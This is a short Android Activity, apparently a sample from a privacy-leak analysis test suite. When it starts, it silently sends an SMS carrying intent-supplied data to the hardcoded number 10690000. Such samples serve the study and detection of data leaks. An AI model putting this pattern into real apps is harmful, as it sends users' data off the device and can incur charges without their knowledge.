package cn.privlens.suite.relay_swaps_keys;

import android.app.Activity;
import android.telephony.SmsManager;

public class Last extends Activity {
    @Override
    protected void onStart() {
        super.onStart();
        SmsManager.getDefault().sendTextMessage("10690000", null, getIntent().getStringExtra("b"), null, null);
    }
}
